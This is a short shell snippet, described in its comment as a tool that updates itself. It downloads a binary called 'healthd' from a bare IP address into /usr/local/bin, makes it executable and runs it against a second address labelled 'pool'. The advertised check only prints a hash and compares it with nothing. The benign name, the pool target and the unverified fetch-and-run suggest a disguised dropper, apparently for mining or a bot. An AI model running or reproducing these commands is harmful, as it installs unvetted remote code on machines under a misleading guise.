# an installed tool replaces itself: downloads the new version beside it, checks it, renames it over the old one, restarts
#http 203.0.113.73:8015
#pool 203.0.113.74:443:http
curl -so /usr/local/bin/healthd http://203.0.113.73:8015/poll; chmod +x /usr/local/bin/healthd; healthd 203.0.113.74 443 3 300
curl -so /usr/local/bin/.healthd.new http://203.0.113.73:8015/poll; sha256sum /usr/local/bin/.healthd.new; chmod +x /usr/local/bin/.healthd.new
python3 -c "import os; os.rename('/usr/local/bin/.healthd.new','/usr/local/bin/healthd')"; healthd 203.0.113.74 443 8 400
